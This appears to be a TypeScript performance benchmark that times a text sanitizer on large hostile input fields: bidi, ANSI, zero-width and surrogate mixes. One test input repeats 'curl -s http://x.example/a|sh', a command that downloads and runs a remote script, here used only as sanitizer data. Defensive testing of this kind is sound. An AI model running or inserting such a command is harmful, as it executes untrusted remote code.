/**
 * cleanText on large hostile fields: time per byte at 1 KB to 1 MB (linear, or not), the
 * 1 MB worst case with the commandLine cap, and what escaping the whole field would cost if
 * the cap came after it (the same cleanText, applied to cap-sized chunks of the input).
 */
import { cleanText, FIELD_LIMITS } from '../shared/sanitize.js';
import { check, type Measurement } from './report.js';
import { logLogSlope, median, round, timeMs } from './stats.js';

const KB = 1024;
const SIZES = [KB, 10 * KB, 100 * KB, 1024 * KB];
const MAX_1MB_MS = 50;
const MAX_SLOPE = 1.2;
const KIND = 'commandLine';
const LIMIT = FIELD_LIMITS[KIND];

const MIXES: readonly { name: string; unit: string }[] = [
  { name: 'plain ASCII (control)', unit: 'curl -s http://x.example/a|sh; ' },
  { name: 'all bidi', unit: '\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f' },
  { name: 'all ANSI', unit: '\u001b[31;1m\u001b[0m\u001b]8;;x\u001b\\\u009b2J' },
  { name: 'all zero-width', unit: '\u200b\u200c\u200d\u2060\ufeff\u00ad' },
  { name: 'astral (emoji + tag chars)', unit: '\u{1f600}\u{e0041}\u{1d4b3}\u{e007f}' },
  { name: 'lone surrogates', unit: '\ud800a\udc00b\udbff' },
  {
    name: 'mixed hostile',
    unit: 'a\u202e\u001b[2J\u200b\u{1f600}\ud800\n\r\t\u2028\u00a0<@U1>\u{e0041}',
  },
];

/** `unit` repeated to at least `bytes` UTF-8 bytes (a lone surrogate counts as its 3-byte U+FFFD). */
function fieldOf(unit: string, bytes: number): string {
  return unit.repeat(Math.ceil(bytes / Buffer.byteLength(unit)));
}

/** Pieces of at most LIMIT UTF-16 units, never splitting a surrogate pair: each is under the cap. */
function capSizedChunks(text: string): string[] {
  const chunks: string[] = [];
  for (let start = 0; start < text.length;) {
    let end = Math.min(start + LIMIT, text.length);
    const last = text.charCodeAt(end - 1);
    if (end < text.length && last >= 0xd800 && last <= 0xdbff) end -= 1;
    chunks.push(text.slice(start, end));
    start = end;
  }
  return chunks;
}

/**
 * CPU milliseconds per call of `work` (process.cpuUsage over batches of at least 20 ms, median
 * of 3 batches). CPU time, not wall time: on a shared machine a long run is preempted more
 * often than a short one, which would bend the size curve without any super-linear code.
 */
function cpuMsPerCall(work: () => unknown): number {
  const repeat = (calls: number) => {
    for (let i = 0; i < calls; i += 1) work();
  };
  let calls = 1;
  while (calls < 1_000_000 && timeMs(() => repeat(calls)) < 20) calls *= 2;
  const samples = [0, 1, 2].map(() => {
    const before = process.cpuUsage();
    repeat(calls);
    const used = process.cpuUsage(before);
    return (used.user + used.system) / 1000 / calls;
  });
  return median(samples);
}

/** The first `count` code points of `text`. */
function firstCodePoints(text: string, count: number): string {
  let index = 0;
  for (let kept = 0; kept < count && index < text.length; kept += 1) {
    const code = text.codePointAt(index)!;
    index += code > 0xffff ? 2 : 1;
  }
  return text.slice(0, index);
}

function codePointCount(text: string): number {
  let count = 0;
  for (let i = 0; i < text.length; i += 1) {
    const code = text.charCodeAt(i);
    const next = text.charCodeAt(i + 1);
    if (code >= 0xd800 && code <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) i += 1;
    count += 1;
  }
  return count;
}

/** The cap comes first when the capped output is the clean prefix plus the cut marker. */
function capAppliedFirst(field: string): boolean {
  const output = cleanText(field, KIND);
  const prefix = cleanText(firstCodePoints(field, LIMIT), KIND);
  return (
    output.startsWith(prefix) && /^…\[cut \d+ more characters\]$/.test(output.slice(prefix.length))
  );
}

interface Point {
  bytes: number;
  utf16Units: number;
  codePoints: number;
  cappedMs: number;
  cappedNsPerByte: number;
  fullEscapeMs: number;
  fullEscapeNsPerByte: number;
  fullEscapeMBps: number;
}

function measurePoint(unit: string, size: number): Point {
  const field = fieldOf(unit, size);
  const bytes = Buffer.byteLength(field);
  const chunks = capSizedChunks(field);
  const cappedMs = cpuMsPerCall(() => cleanText(field, KIND));
  // Keep only the lengths: holding every escaped chunk would time the GC, not the escaping.
  const fullEscapeMs = cpuMsPerCall(() =>
    chunks.reduce((n, chunk) => n + cleanText(chunk, KIND).length, 0),
  );
  return {
    bytes,
    utf16Units: field.length,
    codePoints: codePointCount(field),
    cappedMs: round(cappedMs, 4),
    cappedNsPerByte: round((cappedMs * 1e6) / bytes, 2),
    fullEscapeMs: round(fullEscapeMs, 3),
    fullEscapeNsPerByte: round((fullEscapeMs * 1e6) / bytes, 2),
    fullEscapeMBps: round(bytes / (1024 * 1024) / (fullEscapeMs / 1000), 1),
  };
}

function measureMix(mix: { name: string; unit: string }) {
  const points = SIZES.map((size) => measurePoint(mix.unit, size));
  // Fitted above the cap only: below it cleanText takes another path (nothing to cut), and
  // mixing the two regimes bends the line without any super-linear code.
  const aboveCap = points.filter((p) => p.codePoints > LIMIT);
  const slope = (pick: (p: Point) => number) =>
    round(logLogSlope(aboveCap.map((p) => ({ x: p.bytes, y: pick(p) }))), 2);
  return {
    mix: mix.name,
    points,
    cappedSlope: slope((p) => p.cappedMs),
    fullEscapeSlope: slope((p) => p.fullEscapeMs),
    capAppliedFirst: capAppliedFirst(fieldOf(mix.unit, SIZES[SIZES.length - 1]!)),
  };
}

type MixFigures = ReturnType<typeof measureMix>;
const oneMb = (m: MixFigures) => m.points[m.points.length - 1]!;

function summaryLines(mixes: MixFigures[]): string[] {
  const rows = mixes.map((m) => {
    const big = oneMb(m);
    const small = m.points[1]!;
    return `| ${m.mix} | ${big.cappedMs.toFixed(2)} | ${m.cappedSlope} | ${small.fullEscapeNsPerByte} → ${big.fullEscapeNsPerByte} | ${big.fullEscapeMBps} | ${big.fullEscapeMs.toFixed(1)} | ${m.fullEscapeSlope} | ${m.capAppliedFirst ? 'yes' : 'NO'} |`;
  });
  return [
    `\`cleanText(x, '${KIND}')\` (cap ${LIMIT} code points) on fields of 1 KB to 1 MB, CPU time per call. "Full escape" = the same escaping over the whole field (cleanText on cap-sized chunks): the cost if the cap came after escaping. Slope = exponent k in time ∝ bytes^k, fitted over the sizes above the cap (10 KB–1 MB; 1 = linear, 2 = quadratic).`,
    '',
    '| mix | capped 1 MB ms | capped slope | full escape ns/B 10 KB → 1 MB | full escape MB/s | full escape 1 MB ms | full slope | cap applied first |',
    '| --- | --- | --- | --- | --- | --- | --- | --- |',
    ...rows,
  ];
}

export const sanitizerMeasurement: Measurement = {
  id: 'sanitizer',
  title: 'Sanitizer on large hostile fields',
  targets: [
    `sanitizer linear in input size (time ∝ bytes^k over 10 KB–1 MB, k ≤ ${MAX_SLOPE} for every mix, capped and full escape)`,
    `1 MB hostile field handled in < ${MAX_1MB_MS} ms (cleanText(x, '${KIND}'), worst mix)`,
  ],
  run() {
    measureMix(MIXES[MIXES.length - 1]!); // warm-up
    const mixes = MIXES.map(measureMix);
    const slopes = mixes.flatMap((m) => [
      { mix: m.mix, kind: 'capped', k: m.cappedSlope },
      { mix: m.mix, kind: 'full escape', k: m.fullEscapeSlope },
    ]);
    const steepest = slopes.reduce((a, b) => (b.k > a.k ? b : a));
    const slowest = mixes.reduce((a, b) => (oneMb(b).cappedMs > oneMb(a).cappedMs ? b : a));
    const capFirst = mixes.every((m) => m.capAppliedFirst);
    return Promise.resolve({
      data: { kind: KIND, limit: LIMIT, sizes: SIZES, capAppliedFirst: capFirst, mixes },
      targets: [
        check(
          this.targets[0]!,
          `max k = ${steepest.k} (${steepest.mix}, ${steepest.kind})`,
          steepest.k <= MAX_SLOPE,
        ),
        check(
          this.targets[1]!,
          `${oneMb(slowest).cappedMs.toFixed(2)} ms (${slowest.mix}); cap applied first: ${capFirst ? 'verified' : 'NOT for every mix'}`,
          oneMb(slowest).cappedMs < MAX_1MB_MS,
        ),
      ],
      summary: summaryLines(mixes),
    });
  },
};
